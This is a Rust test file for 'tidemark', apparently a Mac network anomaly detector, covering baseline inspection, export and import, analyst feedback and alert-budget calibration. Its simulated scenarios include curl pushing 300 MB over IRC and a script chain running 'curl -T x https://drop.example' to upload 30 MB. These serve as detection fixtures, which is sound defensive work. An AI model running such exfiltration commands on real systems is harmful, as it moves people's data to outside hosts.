//! `tidemark baseline` and `tidemark feedback` on a store, through the command.

#![allow(
    clippy::pedantic,
    clippy::unwrap_used,
    clippy::expect_used,
    clippy::panic,
    clippy::indexing_slicing,
    clippy::print_stdout,
    clippy::print_stderr,
    reason = "a test that cannot go on has failed"
)]

// A test's own helpers may fail as the test does.

use std::collections::BTreeSet;
use std::path::Path;
use std::process::{Command, Output};
use std::sync::Arc;
use std::time::Duration;

use tidemark::alert::{Activity as EventKind, Alert, FindingKey};
use tidemark::baseline::{Checkpoint, Priors, Store};
use tidemark::detect::{Activity, Detector, Disposition, ProtocolUse, Settings};
use tidemark::network::Protocol;
use tidemark::observation::{Timestamp, ZoneOffset};
use tidemark::process::{Identity, Role, Subject};

const CURL: &str = "apple:com.apple.curl < apple:com.apple.Terminal";

/// A store of a Mac on which curl ran for twenty days, then spoke IRC to a new place.
fn store(folder: &Path) {
    let mut detector = Detector::new(Settings::default(), Arc::new(Priors::builtin()));
    let subject = Subject {
        image: Identity::new("apple:com.apple.curl"),
        initiator: Some(Identity::new("apple:com.apple.Terminal")),
    };
    let mut time = Timestamp::from_seconds(20_454 * 86_400 + 36_000, 0);
    let mut alerts = 0;
    for day in 0..=20 {
        let (protocol, to, bytes) = if day < 20 {
            (ProtocolUse::new(Protocol::Tls, 443, Some(Protocol::Tls)), "example.com", 40_000)
        } else {
            (ProtocolUse::new(Protocol::Irc, 6_667, Some(Protocol::Irc)), "irc.example", 300_000_000)
        };
        let destination: Arc<str> = to.into();
        let finding = detector.observe(&Activity {
            time,
            zone: ZoneOffset(0),
            subject: &subject,
            role: Role { tool: true, ..Role::default() },
            initiator_seen: true,
            volatile_cdhash: None,
            protocol: Some(protocol),
            destination: Some(&destination),
            bytes_out: bytes,
            bytes_in: 9_000,
            began: true,
            who: None,
        });
        if let Some(finding) = finding {
            detector.dispose(&finding, Disposition::Alerted);
            alerts += 1;
        }
        for _ in 0..24 {
            time = time.after(Duration::from_secs(3_600));
            detector.advance(time, ZoneOffset(0), None);
        }
    }
    assert_eq!(alerts, 1);
    Store::open(folder).unwrap().store.write(&detector.checkpoint()).unwrap();
}

fn tidemark(store: &Path, arguments: &[&str]) -> Output {
    Command::new(env!("CARGO_BIN_EXE_tidemark")).args(arguments).arg("--store").arg(store).output().unwrap()
}

fn text(output: &Output) -> String {
    assert!(output.status.success(), "{}", String::from_utf8_lossy(&output.stderr));
    String::from_utf8(output.stdout.clone()).unwrap()
}

#[test]
fn what_was_learnt_is_shown_to_people_and_as_json() {
    let folder = tempfile::tempdir().unwrap();
    store(folder.path());
    assert!(text(&tidemark(folder.path(), &["baseline", "list"])).contains(CURL));
    let shown = text(&tidemark(folder.path(), &["baseline", "show", CURL]));
    assert!(
        shown.contains("tls/well-known") && shown.contains("█") && shown.contains("not learnt yet"),
        "{shown}"
    );
    let json = text(&tidemark(folder.path(), &["baseline", "show", CURL, "--json"]));
    let portrait: serde_json::Value = serde_json::from_str(&json).unwrap();
    assert_eq!(portrait["active_days"], 21);
}

#[test]
fn an_export_moves_to_another_mac_and_a_dry_run_moves_nothing() {
    let (ours, theirs) = (tempfile::tempdir().unwrap(), tempfile::tempdir().unwrap());
    store(ours.path());
    let fresh = Detector::new(Settings::default(), Arc::new(Priors::builtin())).checkpoint();
    Store::open(theirs.path()).unwrap().store.write(&fresh).unwrap();
    let exported = text(&tidemark(ours.path(), &["baseline", "export"]));
    let file = ours.path().join("export.ndjson");
    std::fs::write(&file, &exported).unwrap();
    let file = file.to_str().unwrap();
    let said = text(&tidemark(theirs.path(), &["baseline", "import", "--dry-run", file]));
    assert_eq!(said.trim(), format!("would be added: {CURL}"));
    assert_eq!(text(&tidemark(theirs.path(), &["baseline", "list"])), "");
    text(&tidemark(theirs.path(), &["baseline", "import", file]));
    assert_eq!(text(&tidemark(theirs.path(), &["baseline", "export"])), exported);
}

#[test]
fn feedback_takes_the_alert_as_a_siem_returns_it_or_a_delivered_word_once() {
    let folder = tempfile::tempdir().unwrap();
    store(folder.path());
    let alert = folder.path().join("alert.json");
    let subject = r#"{"image": "apple:com.apple.curl", "initiator": "apple:com.apple.Terminal"}"#;
    std::fs::write(&alert, format!(r#"{{"_source": {{"finding": "k", "subject": {subject}}}}}"#)).unwrap();
    let spool = tempfile::tempdir().unwrap();
    let word = spool.path().join("word.json");
    let deliver = ["feedback", alert.to_str().unwrap(), "benign", "--deliver", word.to_str().unwrap()];
    text(&tidemark(folder.path(), &deliver));
    assert!(std::fs::read_to_string(&word).unwrap().contains("tidemark.feedback/1"));
    for _ in 0..2 {
        text(&tidemark(folder.path(), &["feedback", "--from", spool.path().to_str().unwrap()]));
    }
    let shown = text(&tidemark(folder.path(), &["baseline", "show", CURL]));
    assert!(!shown.contains("not learnt yet"), "{shown}");
}

#[test]
fn feedback_finds_its_subject_by_the_key_of_a_finding() {
    let curl = Subject {
        image: Identity::new("apple:com.apple.curl"),
        initiator: Some(Identity::new("apple:com.apple.Terminal")),
    };
    let fleet_wide = FindingKey::new(None, &curl, Some(Protocol::Irc));
    let on_the_mac = FindingKey::new(Some("mac"), &curl, None);
    for word in [
        format!(r#""finding": "{}""#, fleet_wide.as_str()),
        format!(r#""finding": "{}", "host": "mac""#, on_the_mac.as_str()),
    ] {
        let folder = tempfile::tempdir().unwrap();
        store(folder.path());
        let spool = tempfile::tempdir().unwrap();
        let text_of_word =
            format!(r#"{{"feedback": {{"schema": "tidemark.feedback/1", "verdict": "benign", {word}}}}}"#);
        std::fs::write(spool.path().join("word.json"), text_of_word).unwrap();
        assert!(text(&tidemark(folder.path(), &["baseline", "show", CURL])).contains("not learnt yet"));
        text(&tidemark(folder.path(), &["feedback", "--from", spool.path().to_str().unwrap()]));
        let shown = text(&tidemark(folder.path(), &["baseline", "show", CURL]));
        assert!(!shown.contains("not learnt yet"), "{word}: {shown}");
    }
}

#[test]
fn a_verb_that_changes_a_baseline_leaves_what_the_engine_keeps_beside_it() {
    let folder = tempfile::tempdir().unwrap();
    store(folder.path());
    let opened = Store::open(folder.path()).unwrap().store;
    let road = Checkpoint {
        host: opened.load().unwrap().host.unwrap(),
        road: Some(vec![7]),
        ..Checkpoint::default()
    };
    opened.write(&road).unwrap();
    drop(opened);
    text(&tidemark(folder.path(), &["baseline", "approve", CURL]));
    let saved = Store::open(folder.path()).unwrap().store.load().unwrap();
    assert_eq!(saved.road, Some(vec![7]));
}

#[test]
fn an_id_that_no_alert_has_is_said_in_a_sentence() {
    let folder = tempfile::tempdir().unwrap();
    store(folder.path());
    let alerts = folder.path().join("alerts.ndjson");
    std::fs::write(&alerts, "").unwrap();
    let id = "tmk1:00000000000000000000000000000000";
    let nowhere = tidemark(folder.path(), &["feedback", id, "benign", "--alerts", alerts.to_str().unwrap()]);
    assert_eq!(nowhere.status.code(), Some(66));
    assert!(String::from_utf8_lossy(&nowhere.stderr).contains(id));
}

#[test]
fn an_unknown_subject_and_a_missing_store_are_said_in_a_sentence() {
    let folder = tempfile::tempdir().unwrap();
    store(folder.path());
    let unknown = tidemark(folder.path(), &["baseline", "forget", "apple:nobody"]);
    assert_eq!(unknown.status.code(), Some(1));
    assert!(String::from_utf8_lossy(&unknown.stderr).contains("is not known"));
    let missing = tidemark(&folder.path().join("none"), &["baseline", "list"]);
    assert_eq!(missing.status.code(), Some(66));
    assert!(!folder.path().join("none").exists(), "a verb made a store");
}

/// Nine weeks of a Mac with a program of uneven habits, on which a script once sends something away.
const NINE_WEEKS: &str = r#"
title = "Nine weeks of a small Mac"
days = 63

[mac]
ordinary = false
zone = "UTC"

[[program]]
name = "Sync"
path = "/Applications/Sync.app/Contents/MacOS/Sync"
id = "com.example.sync"
team = "SYNC123456"

[[habit]]
run = "Sync"
every = "6 h"
hours = "00:00-24:00"
flow = [{ to = ["one.sync.example.com", "two.blocks.example.com"], sends = "900 kB", spread = 12.0 }]

[[event]]
day = 9
at = "10:30"
run = "Terminal > zsh > osascript x.scpt > sh -c x => curl -T x https://drop.example"
flow = [{ to = "drop.example", sends = "30 MB" }]

[expect]
"#;

#[test]
fn calibrate_sets_what_was_promised_beside_what_a_replay_alerts() {
    let folder = tempfile::tempdir().unwrap();
    let at = |name: &str| folder.path().join(name).to_str().unwrap().to_owned();
    let (scenario, recording, config) = (at("mac.toml"), at("mac.ndjson"), at("tidemark.toml"));
    std::fs::write(&scenario, NINE_WEEKS).unwrap();
    let run = |arguments: &[&str]| {
        let output = Command::new(env!("CARGO_BIN_EXE_tidemark")).args(arguments).output().unwrap();
        String::from_utf8(output.stdout).unwrap()
    };
    run(&["test", "--write-recording", &recording, &scenario]);
    let rows = run(&["calibrate", "--json", "--budgets", "1,0.05", &recording]);
    let rows: Vec<serde_json::Value> = rows.lines().map(|row| serde_json::from_str(row).unwrap()).collect();
    assert_eq!(rows.len(), 2, "{rows:?}");
    for row in &rows {
        std::fs::write(&config, format!("[detection]\nalerts_per_mac_per_day = {}\n", row["budget"]))
            .unwrap();
        let told = run(&["replay", "--config", &config, &recording]);
        let alerts: Vec<Alert> = told.lines().map(|line| Alert::read(line).unwrap()).collect();
        let begin = Timestamp::parse("2026-03-02T00:00:00Z").unwrap();
        let days = |alert: &Alert| alert.time.since(begin).as_secs() / 86_400;
        let told = alerts.iter().filter(|alert| alert.stage.activity != EventKind::Close && days(alert) >= 7);
        let counted: BTreeSet<_> = told.map(|alert| (alert.subject.to_string(), days(alert))).collect();
        assert!(alerts.iter().any(|alert| alert.stage.activity == EventKind::Close), "one was closed");
        assert_eq!(row["observed"], counted.len(), "{row}");
        let (length, promised) = (row["days"].as_f64().unwrap(), row["promised"].as_f64().unwrap());
        assert!((55.0..=56.0).contains(&length), "{row}");
        assert!((promised - row["budget"].as_f64().unwrap() * length).abs() < 1e-9, "{row}");
    }
    assert!(rows[0]["observed"].as_u64() >= rows[1]["observed"].as_u64());
}
